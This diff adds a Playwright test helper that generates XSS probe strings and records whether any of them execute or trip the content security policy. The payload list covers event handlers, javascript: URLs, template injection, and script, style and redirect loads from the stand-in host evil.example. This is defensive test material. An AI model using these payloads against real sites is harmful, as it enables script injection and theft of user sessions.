@@ -1,0 +1,67 @@
+import type { Page } from '@playwright/test';
+
+/** What runs when it is taken for HTML, in each of the ways that browsers know. */
+const TAGS = [
+  '<script>hit()</script>',
+  '<script src=//evil.example/x>',
+  '<img src=x onerror=hit()>',
+  '<svg onload=hit()>',
+  '<svg><script>hit()</script></svg>',
+  '<svg><animate onbegin=hit() attributeName=x>',
+  '<math><mi href=javascript:hit()>x',
+  '<body onload=hit()>',
+  '<details open ontoggle=hit()>',
+  '<input autofocus onfocus=hit()>',
+  '<video src=x onerror=hit()>',
+  '<audio src=x onerror=hit()>',
+  '<marquee onstart=hit()>',
+  '<iframe srcdoc="<img src=x onerror=parent.hit()>">',
+  '<iframe src=javascript:hit()>',
+  '<object data=javascript:hit()>',
+  '<embed src=javascript:hit()>',
+  '<a href=javascript:hit()>go</a>',
+  '<base href=//evil.example/>',
+  '<meta http-equiv=refresh content=0;//evil.example>',
+  '<link rel=stylesheet href=//evil.example/x>',
+  '<style>@import "//evil.example/x"</style>',
+  '<p style=animation-name:x onanimationstart=hit()>',
+  '{{constructor.constructor("hit()")()}}',
+  '${hit()}',
+];
+
+/** What a text may have to get out of first. */
+const BEFORE = ['', '">', "'>", '</p>'];
+
+/** A hundred texts, none longer than the shortest field for free text. */
+export const hostileTexts = (): string[] =>
+  TAGS.flatMap((tag) => BEFORE.map((before) => before + tag));
+
+interface Seen {
+  readonly ran: string[];
+  readonly violations: string[];
+}
+
+/** Makes every later page of this one keep what ran and what its policy stopped. */
+export async function watchWhatRuns(page: Page): Promise<void> {
+  await page.addInitScript(() => {
+    const seen: Seen = { ran: [], violations: [] };
+    Object.assign(window, {
+      seen,
+      hit: () => seen.ran.push(location.pathname),
+    });
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+      seen.violations.push(effectiveDirective);
+    });
+  });
+}
+
+/** What ran and was stopped since the page was opened, and elements that only a hostile text makes. */
+export const tellsWhatRan = (page: Page): Promise<Seen & { foreignElements: number }> =>
+  page.evaluate(() => ({
+    ...(window as unknown as { seen: Seen }).seen,
+    foreignElements: document.querySelectorAll(
+      '[onerror],[onload],[onfocus],[ontoggle],[onbegin],[onstart],[onanimationstart],' +
+        '[href^="javascript:"],[srcdoc],[src*="evil.example"],[href*="evil.example"],' +
+        'body script,math,marquee,object,embed,base,meta[http-equiv],style',
+    ).length,
+  }));
